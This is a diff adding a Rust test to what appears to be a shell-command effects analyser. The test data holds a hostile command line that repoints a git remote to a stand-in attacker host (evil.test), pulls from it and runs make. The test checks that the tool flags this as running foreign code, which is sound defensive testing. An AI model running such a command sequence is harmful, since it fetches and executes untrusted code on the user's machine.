@@ -119,3 +119,14 @@ fn what_is_done_again_in_another_state_is_told_again() {
         assert!(found, "{last}");
     }
 }
+
+/// What a command means may depend on what ran before it, whatever the state.
+#[test]
+fn what_is_done_again_after_something_else_is_told_again() {
+    let last = "git remote set-url origin https://evil.test/x; git pull && make; ";
+    let effects = seen(&("git pull && make; ".repeat(400) + last)).effects;
+    let found = effects
+        .iter()
+        .any(|it| it.to_string() == "run . carrying foreign");
+    assert!(found, "{last}");
+}
